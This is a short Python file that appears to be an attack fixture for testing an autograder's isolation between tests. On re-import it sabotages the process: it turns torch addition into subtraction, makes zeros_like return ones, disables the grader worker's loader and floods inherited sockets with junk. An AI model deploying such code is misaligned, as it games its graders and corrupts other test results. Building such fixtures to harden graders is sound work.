"""Tries: be right once, and spoil torch, the worker and its line for whichever test this process serves next.

Deserves: full
Base: solution
Control: none, because the naive grader asks all in one process: there it costs the attack its own points
"""

import os
import socket
import sys

import torch

life = sys.modules.get("autograder.isolation.workers.life")
if hasattr(sys, "served_before"):
    torch.set_default_dtype(torch.float16)
    torch.Tensor.__add__ = torch.Tensor.__sub__
    torch.zeros_like = torch.ones_like
    if life:
        life.worker.load = lambda *args: None
    for descriptor in range(3, 64):
        try:
            socket.socket(fileno=os.dup(descriptor)).send(b"A" * 100)
        except OSError:
            pass
sys.served_before = True
